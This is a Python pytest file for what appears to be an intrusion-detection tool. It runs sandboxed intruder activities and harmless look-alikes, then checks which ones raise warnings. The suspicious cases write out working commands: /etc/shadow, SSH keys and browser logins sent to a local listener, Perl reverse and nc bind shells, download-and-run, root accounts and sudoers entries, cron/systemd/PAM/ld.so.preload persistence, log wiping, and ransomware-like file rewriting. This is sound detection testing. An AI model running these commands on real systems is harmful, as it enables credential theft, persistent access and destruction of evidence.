# SPDX-License-Identifier: Apache-2.0
"""Activities of intruders, done for real in namespaces of their own, and harmless ones that must not be taken for them."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from .conftest import Told, words
from .sandbox import EXAMPLES, examples_of, proves, sandboxed
from .test_programs import check

pytestmark = pytest.mark.live

Tell = Callable[..., Told]

NAMES = (
    *("account", "credentials", "download-run", "log-tampering", "mass-change", "persistence", "reverse-shell"),
    "self-delete",
)


@pytest.mark.parametrize(("name", "number"), examples_of(NAMES))
def test_every_example_gives_its_lines(name: str, number: int, told: Tell) -> None:
    """The lines that a behavior's file promises, and none of those that it rules out."""
    example = EXAMPLES[name][number]
    proves(example, told(sandboxed(example.run), log="all"))


@pytest.mark.parametrize("name", NAMES)
def test_a_warning_has_a_counterexample(name: str) -> None:
    """Something harmless that looks like it, which is run above."""
    assert any(example.without for example in EXAMPLES[name])


def warnings(run: Told) -> list[str]:
    """The lines of intrusions."""
    return [words(line) for line in run.lines if line.layer == "activity" and line.severity == "warning"]


WEB = "mkdir www to; cp /bin/true www/program; printf '#!/bin/sh\\ntrue\\n' > www/script; python3 -m http.server -b 127.0.0.1 -d www 8080 & sleep 1; cd to\n"
LISTENER = "(ncat -k -l 127.0.0.1 4444 -c 'echo true; echo exit; sleep 0.5' &); sleep 0.5\n"
HUNDRED = "mkdir d; for n in $(seq 100); do echo $n > d/$n.txt; done\n"

SUSPICIOUS = {
    "a password changed": ("echo games:secret | chpasswd", ["chpasswd account /etc/shadow"]),
    "groups changed": ("usermod -aG sudo games", ["usermod account /etc/group /etc/gshadow"]),
    "an account removed": ("userdel games", ["userdel account /etc/passwd /etc/shadow /etc/group and 1 more"]),
    "an account typed in": ("vim -u NONE -es -c 'normal Goeve::0:0:::' -c wq /etc/passwd", ["vim account /etc/passwd"]),
    "a right to become root": (
        "echo 'games ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/games",
        ["bash account /etc/sudoers.d/games"],
    ),
    "an account that a program made by hand has": (
        'cp /usr/bin/python3 mine; ./mine -c \'open("/etc/passwd", "a").write("eve::0:0:::")\'',
        ["mine account /etc/passwd"],
    ),
    "a job": ("cp /bin/true /etc/cron.daily/true", ["cp persistence /etc/cron.daily/true"]),
    "a job edited": (
        "printf '#!/bin/sh\\nsleep 1\\necho \"# job\" >> $1\\n' > ed; chmod +x ed; EDITOR=$PWD/ed crontab -e",
        ["crontab persistence /var/spool/cron/crontabs/root"],
    ),
    "a service": (
        "cp /etc/hosts /etc/systemd/system/own.service; ln -s ../own.service /etc/systemd/system/multi-user.target.wants/",
        [
            "cp persistence /etc/systemd/system/own.service",
            "ln persistence /etc/systemd/system/multi-user.target.wants/own.service",
        ],
    ),
    "a profile edited": (
        "touch .bashrc; vim -u NONE -es -c 'normal ix' -c wq .bashrc",
        ["touch persistence *.bashrc", "vim persistence *.bashrc"],
    ),
    "a key let in": ("mkdir .ssh; tee .ssh/authorized_keys < /etc/hosts", ["tee persistence *.ssh/authorized_keys"]),
    "a library for every program": ("cp /dev/null /etc/ld.so.preload", ["cp persistence /etc/ld.so.preload"]),
    "an answer of PAM's": (
        "sed -i 's/deny/permit/' /etc/pam.d/common-auth",
        ["sed persistence /etc/pam.d/common-auth"],
    ),
    "a script downloaded and run": (
        WEB + "curl -s http://127.0.0.1:8080/script > s; chmod 755 s; ./s",
        ["s download-run s <- 127.0.0.1:8080"],
    ),
    "a program downloaded, renamed and run by another": (
        WEB + "wget -q http://127.0.0.1:8080/program; chmod +x program; mv program other; (sleep 1; ./other)",
        ["other download-run other <- 127.0.0.1:8080"],
    ),
    "a program that fetches another and runs it": (
        WEB
        + 'python3 -c \'import os, subprocess, urllib.request as u; open("p", "wb").write(u.urlopen("http://127.0.0.1:8080/program").read());'
        ' os.chmod("p", 0o755); subprocess.call(["./p"])\'',
        ["p download-run p <- 127.0.0.1:8080"],
    ),
    "passwords sent by a program": (
        LISTENER + "curl -s -m 3 -H Expect: -T /etc/shadow http://127.0.0.1:4444/",
        ["curl credentials /etc/shadow -> 127.0.0.1:4444"],
    ),
    "a key sent by a shell": (
        LISTENER
        + "mkdir .ssh; cp /etc/hosts .ssh/id_rsa; bash -c 'x=$(cat .ssh/id_rsa); echo $x > /dev/tcp/127.0.0.1/4444'",
        ["bash credentials *.ssh/id_rsa -> 127.0.0.1:4444"],
    ),
    "a browser's passwords": (
        LISTENER
        + "mkdir -p .mozilla/firefox/x; cp /etc/hosts .mozilla/firefox/x/logins.json; ncat 127.0.0.1 4444 < .mozilla/firefox/x/logins.json",
        ["ncat credentials *x/logins.json -> 127.0.0.1:4444"],
    ),
    "a shell of perl's": (
        LISTENER
        + 'perl -MIO::Socket -e \'$s = IO::Socket::INET->new("127.0.0.1:4444"); open(STDIN, "<&", $s); open(STDOUT, ">&", $s); exec "/bin/sh", "-i"\'',
        ["sh reverse-shell 127.0.0.1:4444"],
    ),
    "a shell that waits": (
        "(nc.traditional -l -p 4444 -e /bin/bash &); sleep 0.5; (echo exit; sleep 0.5) | ncat 127.0.0.1 4444; true",
        ["bash bind-shell 127.0.0.1:*"],
    ),
    "a log of the system's emptied": (
        'echo a > /var/log/auth.log; python3 -c \'open("/var/log/auth.log", "r+").truncate(0)\'',
        ["python3 log-tampering /var/log/auth.log"],
    ),
    "a log exchanged": (
        "echo a > /var/log/syslog; cp /etc/hosts new; mv new /var/log/syslog",
        ["mv log-tampering /var/log/syslog"],
    ),
    "a log shredded": (
        "echo a > /var/log/own.log; shred -u /var/log/own.log",
        ["shred log-tampering /var/log/own.log*"],
    ),
    "logs turned off": ("ln -sf /dev/null /var/log/wtmp", ["ln log-tampering /var/log/wtmp"]),
    "all logs removed": ("rm -rf /var/log/*", ["rm log-tampering /var/log/* and * more"]),
    "a program that removes itself": (
        "cp /usr/bin/python3 mine; ./mine -c 'import os; os.unlink(\"mine\")'",
        ["mine self-delete mine"],
    ),
    "files rewritten": (
        HUNDRED
        + 'python3 -c \'import glob\nfor name in glob.glob("d/*"): data = open(name).read(); open(name, "w").write(data[::-1])\'',
        ["python3 mass-change * and 47 more"],
    ),
    "files replaced": (
        HUNDRED
        + 'python3 -c \'import glob, os\nfor name in glob.glob("d/*"): data = open(name).read(); open(name + ".enc", "w").write(data); os.unlink(name)\'',
        ["python3 mass-change * and 47 more"],
    ),
    "files renamed": (
        HUNDRED + 'cp /usr/bin/perl mine; ./mine -e \'rename $_, "$_.locked" for glob "d/*"\'',
        ["mine mass-change * and 47 more"],
    ),
}


@pytest.mark.parametrize("what", SUSPICIOUS)
def test_suspicious(what: str, told: Tell) -> None:
    """These warnings and no others."""
    script, wanted = SUSPICIOUS[what]
    run = told(sandboxed(script), log="all")
    check(warnings(run), wanted)


HARMLESS = {
    "a package with units, cron files, links and an account of its own": """
        mkdir -p p/DEBIAN p/etc/cron.d p/etc/pam.d p/usr/lib/systemd/system
        echo '# nothing' | tee p/etc/cron.d/tiny > p/etc/pam.d/tiny
        printf '[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n' > p/usr/lib/systemd/system/tiny.service
        printf 'Package: tiny\nVersion: 1\nArchitecture: all\nMaintainer: a <a@b>\nDescription: tiny\n' > p/DEBIAN/control
        printf '#!/bin/sh\nset -e\nuseradd -r tiny\ndeb-systemd-helper enable tiny.service\nln -s tiny /etc/init.d/tiny2\n' > p/DEBIAN/postinst
        printf '#!/bin/sh\nuserdel tiny\nrm -f /etc/init.d/tiny2\n' > p/DEBIAN/postrm
        chmod 755 p/DEBIAN/post*; dpkg-deb --root-owner-group -b p tiny.deb; dpkg -i tiny.deb; dpkg -P tiny""",
    "a new user's home": "mkdir /etc/skel/.ssh; cp -r /etc/skel /srv/one; mkdir -p /srv/two; /usr/sbin/mkhomedir_helper games 022; true",
    "passwords that are asked for": """
        getent shadow root; su -s /bin/sh -c true games; setpriv --reuid games su -c true < /dev/null; chage -l games; passwd -S games; pwck -rq""",
    "editors that change nothing": """
        EDITOR=true vipw; EDITOR=true crontab -e; vim -u NONE -es -c q /etc/pam.d/su; nano --version; touch /etc/cron.d/.job.swp
        touch /etc/cron.d/x.dpkg-tmp; rm /etc/cron.d/x.dpkg-tmp""",
    "logs that are rotated and appended to": """
        mkdir /var/log/own; printf '/var/log/own/*.log {\n rotate 2\n compress\n size 1\n}\n/var/log/auth.log {\n copytruncate\n size 1\n rotate 1\n}\n' > conf
        for n in 1 2 3 4; do echo $n | tee -a /var/log/own/a.log >> /var/log/own/b.log; echo $n >> /var/log/auth.log; logrotate -s state conf; done
        logger hello; last; sh -c 'true > /var/log/own/job.log' """,
    "an upgrade while the program runs": "cp /bin/sleep mine; ./mine 1 & sleep 0.3; cp /bin/sleep new; mv new mine; wait; rm mine",
    "a service that inetd would start": """
        printf '#!/bin/bash\nread line; sh -c "echo got $line"; bash -c "date"\n' > service; chmod 755 service
        ncat -l 127.0.0.1 8080 --sh-exec ./service & sleep 0.5; echo hi | ncat 127.0.0.1 8080; wait""",
    "a metric sent by a shell": """
        (ncat -l 127.0.0.1 2003 > got &); sleep 0.5; date > /dev/tcp/127.0.0.1/2003; echo 'echo metric' > job; (ncat -l 127.0.0.1 2004 > got2 &)
        sleep 0.5; bash job > /dev/tcp/127.0.0.1/2004""",
    "what was downloaded is read, and what was compiled is run": """
        echo 'int main(void) { return 0; }' > page.c; python3 -m http.server -b 127.0.0.1 8080 & sleep 1; mkdir to; cd to
        curl -s -o page.c http://127.0.0.1:8080/page.c; cat page.c; gcc -o page page.c; ./page; sh page.c; kill %1""",
    "a script written by a program that has connections": """
        (ncat -l 127.0.0.1 8080 > got &); sleep 0.5; python3 -c 'import socket
s = socket.create_connection(("127.0.0.1", 8080)); open("script", "w").write("#!/bin/sh")'
        chmod +x script; ./script""",
    "sources formatted": """
        mkdir d; for n in $(seq 100); do echo $n > d/$n.py; done
        python3 -c 'import glob
for name in glob.glob("d/*"): data = open(name).read(); open(name, "w").write(data.upper())'""",
    "many files made anew": """
        mkdir d; for n in $(seq 100); do echo $n > d/$n.txt; done; tar cf d.tar d; tar xf d.tar; cp -r d e; cp d/* e; touch d/*; chmod 600 d/*
        perl -pi -e s/1/2/ d/*; for f in d/*; do mv $f $f.bak; done; xz d/*; unxz d/*; rsync -a d/ e; rm -r d""",
}


@pytest.mark.parametrize("what", HARMLESS)
def test_harmless(what: str, told: Tell) -> None:
    """None of it is a warning."""
    run = told(sandboxed(HARMLESS[what]), log="all")
    assert warnings(run) == [], run.output


def test_a_package_is_one_line(told: Tell) -> None:
    """With what dpkg and the programs that it has unpack did; what a package's own scripts do is beside it."""
    script = HARMLESS["a package with units, cron files, links and an account of its own"]
    run = told(sandboxed(script), log="activities")
    mine = [words(line) for line in run.lines if line.behavior == "package"]
    left = [words(line) for line in run.lines if line.process.command == "dpkg" and line.layer == "operation"]
    assert left == []
    assert mine == ["dpkg install tiny", "dpkg remove tiny"], run.output
